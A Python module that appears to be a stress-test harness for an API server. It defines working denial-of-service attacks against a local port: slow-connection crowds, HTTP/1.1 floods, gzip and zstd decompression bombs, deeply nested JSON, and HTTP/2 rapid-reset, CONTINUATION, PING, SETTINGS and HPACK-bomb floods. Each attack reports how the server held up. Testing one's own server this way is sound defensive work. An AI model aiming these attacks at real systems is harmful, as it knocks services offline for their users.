"""Attacks at full size. Each returns, in words, what became of it; `PATIENCE` ends what is not ended."""

from __future__ import annotations

import gzip
import json
import resource
import socket
import struct
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

import trio
import zstandard
from hpack import Encoder

from .upstreams import BOMBS, SCRIPTS
from .wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LOST,
    PING,
    PRIORITY,
    RST,
    chat,
    connect,
    ended,
    frame,
    greeted,
    post,
    pour,
    read,
    request,
    settings,
    window,
)

PATIENCE = 20.0  # seconds until an attack that nothing has ended ends itself
CROWD = 1000  # connections of an attack that needs many
SILENT = 10_000  # connections that say nothing, if so many can be opened
OURS = 200  # descriptors of ours that are none of them
LOOK_EVERY = 0.1  # seconds; whether a connection was reset that nobody reads
FLOODS = 4  # connections that send as fast as they can

Attack = Callable[[int], Awaitable[str]]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[(function.__doc__ or "").rstrip(".")] = function
    return function


@dataclass
class Tally:
    """How many of a crowd the server has ended, and when the last one."""

    began: float
    ended: int = 0
    last: float = 0.0
    of: int = 0

    def add(self) -> None:
        self.ended += 1
        self.last = trio.current_time() - self.began

    def __str__(self) -> str:
        if not self.ended:
            return f"0 of {self.of} ended"
        return f"{self.ended} of {self.of} ended, the last after {self.last:.1f} s"


async def crowd(one: Callable[[Tally], Awaitable[None]], size: int) -> str:
    """Run `one` so many times at once."""
    tally = Tally(trio.current_time(), of=size)
    with trio.move_on_after(PATIENCE):
        async with trio.open_nursery() as nursery:
            for _ in range(size):
                nursery.start_soon(one, tally)
    return str(tally)


async def trickle(port: int, first: bytes, drop: bytes, size: int, every: float = 1.0) -> str:
    """`size` connections send `first`, then `drop` again and again."""

    async def one(tally: Tally) -> None:
        async with await connect(port) as stream:
            await stream.send_all(first)
            while True:
                if await ended(stream, within=every) is not None:
                    tally.add()
                    return
                with suppress(*LOST):
                    await stream.send_all(drop)

    return await crowd(one, size)


async def flood(port: int, first: bytes, data: bytes, size: int = FLOODS) -> str:
    """`size` connections send `first`, then `data` as fast as it is taken."""

    async def one(tally: Tally) -> None:
        with suppress(*LOST):
            async with await connect(port) as stream:
                await stream.send_all(first)
                if await pour(stream, data, within=PATIENCE) is None:
                    return
        tally.add()

    return await crowd(one, size)


async def flood_h2(port: int, data: Callable[[int], bytes], first: bytes = b"") -> str:
    """FLOODS connections greet, send `first`, then `data(n)` for n = 0, 1, …, as fast as it goes."""

    async def one(tally: Tally) -> None:
        with suppress(*LOST):
            async with greeted(port) as stream, trio.open_nursery() as nursery:

                async def listen() -> None:
                    with suppress(*LOST):
                        while await stream.receive_some(65536):
                            pass
                    nursery.cancel_scope.cancel()

                nursery.start_soon(listen)
                await stream.send_all(first)
                number = 0
                with suppress(*LOST):
                    while True:
                        await stream.send_all(data(number))
                        number += 1
                await trio.sleep_forever()
        tally.add()

    return await crowd(one, FLOODS)


# -- HTTP/1.1 -----------------------------------------------------------------------------------


@attack
async def silence(port: int) -> str:
    """connections that say nothing."""
    can_be_opened = resource.getrlimit(resource.RLIMIT_NOFILE)[0] - OURS
    return await trickle(port, b"", b"", min(SILENT, can_be_opened), every=PATIENCE)


@attack
async def slow_heads(port: int) -> str:
    """slow heads."""
    return await trickle(port, b"POST /v1/chat/completions HTTP/1.1\r\n", b"x: y\r\n", CROWD)


@attack
async def slow_bodies(port: int) -> str:
    """slow bodies."""
    return await trickle(port, post(length=100_000), b" ", CROWD)


@attack
async def slow_streamed_bodies(port: int) -> str:
    """slow bodies of other calls."""
    return await trickle(port, post(length=100_000, path="/v1/files"), b" ", CROWD // 4)


@attack
async def slow_readers(port: int) -> str:
    """clients that read nothing of a flood."""

    async def one(tally: Tally) -> None:
        async with await connect(port, window=4096) as stream:
            await stream.send_all(chat("flood"))
            # To read would make room. What is not read goes on to be there after a reset.
            while not stream.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):  # noqa: ASYNC110  # no event tells
                await trio.sleep(LOOK_EVERY)
        tally.add()

    return await crowd(one, 20)


@attack
async def many_fields(port: int) -> str:
    """heads of 16,000 fields."""
    head = b"GET /v1/models HTTP/1.1\r\nhost: localhost\r\n" + b"a:\r\n" * 15_000 + b"\r\n"

    async def one(tally: Tally) -> None:
        while True:
            with suppress(*LOST):
                async with await connect(port) as stream:
                    await stream.send_all(head)
                    await read(stream, until=b"\r\n\r\n")
            tally.add()

    return (await crowd(one, FLOODS)).replace(f"of {FLOODS} ended", "answered")


@attack
async def giant_line(port: int) -> str:
    """a head of one endless line."""
    return await flood(port, b"GET / HTTP/1.1\r\nx: ", b"y" * 65536)


@attack
async def giant_target(port: int) -> str:
    """an endless target."""
    return await flood(port, b"GET /", b"y" * 65536)


@attack
async def pipelining(port: int) -> str:
    """endless pipelined requests."""
    return await flood(port, b"", b"GET /-/healthz HTTP/1.1\r\nhost: localhost\r\n\r\n" * 1000)


@attack
async def tiny_chunks(port: int) -> str:
    """bodies in chunks of one byte."""
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n"
    return await flood(port, head + b"transfer-encoding: chunked\r\n\r\n", b"1\r\n \r\n" * 10_000)


@attack
async def chunk_extensions(port: int) -> str:
    """an endless chunk extension."""
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n"
    return await flood(port, head + b"transfer-encoding: chunked\r\n\r\n1;", b"e" * 65536)


@attack
async def trailers(port: int) -> str:
    """endless trailers of a request."""
    head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n"
    return await flood(port, head + b"transfer-encoding: chunked\r\n\r\n0\r\n", b"x: y\r\n" * 9000)


@attack
async def large_bodies(port: int) -> str:
    """bodies of 64 MiB, and no end of more."""
    return await flood(port, post(length=64 * 2**20), b" " * 65536, 20)


@attack
async def too_large(port: int) -> str:
    """bodies over the limit."""
    return await flood(port, post(length=10**12), b" " * 65536)


async def bombs(port: int, coding: str, body: bytes) -> str:
    """Requests whose body decodes to a gigabyte."""
    head = (
        "POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n"
        f"content-encoding: {coding}\r\ncontent-length: {len(body)}\r\n\r\n"
    ).encode()

    async def one(tally: Tally) -> None:
        with suppress(*LOST):
            async with await connect(port) as stream:
                await stream.send_all(head + body)
                await read(stream, until=b"\r\n\r\n")
        tally.add()

    return (await crowd(one, 8)).replace("ended", "answered")


@attack
async def gzip_bomb(port: int) -> str:
    """gzip bombs as bodies."""
    return await bombs(port, "gzip", gzip.compress(bytes(2**30), 6))


@attack
async def zstd_bomb(port: int) -> str:
    """zstd bombs as bodies."""
    return await bombs(port, "zstd", zstandard.ZstdCompressor().compress(bytes(2**30)))


@attack
async def deep_json(port: int) -> str:
    """JSON nested a million deep."""
    body = b'{"model": ' + b"[" * 2**20 + b"]" * 2**20 + b"}"

    async def one(tally: Tally) -> None:
        with suppress(*LOST):
            async with await connect(port) as stream:
                await stream.send_all(post(body))
                await read(stream, until=b"\r\n\r\n")
        tally.add()

    return (await crowd(one, 8)).replace("ended", "answered")


# -- HTTP/2 -------------------------------------------------------------------------------------


@attack
async def rapid_reset(port: int) -> str:
    """HTTP/2: rapid reset."""
    block = request()

    def pairs(number: int) -> bytes:
        ids = range(1 + 400 * number, 1 + 400 * (number + 1), 2)
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, one, block)
            + frame(RST, 0, one, struct.pack(">I", 8))
            for one in ids
        )

    return await flood_h2(port, pairs)


@attack
async def made_you_reset(port: int) -> str:
    """HTTP/2: streams that the server must reset."""
    block = request()

    def pairs(number: int) -> bytes:
        ids = range(1 + 400 * number, 1 + 400 * (number + 1), 2)
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, one, block) + window(0, one) for one in ids
        )

    return await flood_h2(port, pairs)


@attack
async def continuation(port: int) -> str:
    """HTTP/2: CONTINUATION flood."""
    return await flood_h2(
        port,
        lambda number: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 100,
        frame(HEADERS, 0, 1, request()),
    )


@attack
async def empty_continuation(port: int) -> str:
    """HTTP/2: empty CONTINUATION flood."""
    return await flood_h2(
        port, lambda number: frame(CONTINUATION, 0, 1) * 7000, frame(HEADERS, 0, 1, request())
    )


@attack
async def pings(port: int) -> str:
    """HTTP/2: PING flood."""
    return await flood_h2(port, lambda number: frame(PING, 0, 0, bytes(8)) * 4000)


@attack
async def settings_flood(port: int) -> str:
    """HTTP/2: SETTINGS flood."""
    return await flood_h2(port, lambda number: settings(i4=65535) * 4000)


@attack
async def priorities(port: int) -> str:
    """HTTP/2: PRIORITY flood."""
    return await flood_h2(
        port, lambda number: frame(PRIORITY, 0, 2 * (number % 10**6) + 1, b"\0\0\0\0\x10") * 4000
    )


@attack
async def window_updates(port: int) -> str:
    """HTTP/2: WINDOW_UPDATE flood."""
    return await flood_h2(
        port, lambda number: window(1) * 4000, frame(HEADERS, END_HEADERS, 1, request())
    )


@attack
async def empty_data(port: int) -> str:
    """HTTP/2: flood of empty DATA."""
    return await flood_h2(
        port, lambda number: frame(DATA, 0, 1) * 7000, frame(HEADERS, END_HEADERS, 1, request())
    )


@attack
async def unknown_frames(port: int) -> str:
    """HTTP/2: flood of unknown frames."""
    return await flood_h2(port, lambda number: frame(0xBE) * 7000)


@attack
async def header_bomb(port: int) -> str:
    """HTTP/2: HPACK bomb."""
    encoder = Encoder()
    first = [(":method", "POST"), (":path", "/"), (":scheme", "http"), (":authority", "localhost")]
    big = ("x", "y" * 4000)
    blocks = [encoder.encode([*first, big]), encoder.encode([*first, *[big] * 12_000])]

    def block(number: int) -> bytes:
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, blocks[min(number, 1)])

    return await flood_h2(port, block)


@attack
async def zero_windows(port: int) -> str:
    """HTTP/2: many streams, windows shut."""
    block, body = request(), json.dumps({"model": "flood", "stream": True}).encode()

    async def one(tally: Tally) -> None:
        with suppress(*LOST):
            async with greeted(port, i4=0) as stream:
                for number in range(1, 2000, 2):
                    await stream.send_all(
                        frame(HEADERS, END_HEADERS, number, block)
                        + frame(DATA, END_STREAM, number, body)
                    )
                while await stream.receive_some(65536):
                    pass
        tally.add()

    return await crowd(one, 1)


@attack
async def slow_h2_bodies(port: int) -> str:
    """HTTP/2: many slow bodies."""
    block = request()

    async def one(tally: Tally) -> None:
        with suppress(*LOST):
            async with greeted(port) as stream:
                for number in range(1, 1000, 2):
                    await stream.send_all(frame(HEADERS, END_HEADERS, number, block))
                while await ended(stream, within=1.0) is None:
                    await stream.send_all(frame(DATA, 0, 1, b" "))
        tally.add()

    return await crowd(one, FLOODS)


# -- upstreams ----------------------------------------------------------------------------------


def by_upstream(name: str) -> Attack:
    async def ask(port: int) -> str:
        got: list[bytes] = []

        async def one(tally: Tally) -> None:
            async with await connect(port) as stream:
                await stream.send_all(chat(name, close=True))
                head = await read(stream, until=b"\n", most=1)
                got.append(head)
                with suppress(*LOST):
                    while data := await stream.receive_some(65536):
                        got[-1] = (got[-1] + data)[:12]
            tally.add()

        said = await crowd(one, FLOODS)
        return said + f" ({(got[-1] if got else b'')[9:12].decode(errors='replace')})"

    return ask


for _name in (*SCRIPTS, *BOMBS):
    ATTACKS[f"upstream: {_name}"] = by_upstream(_name)
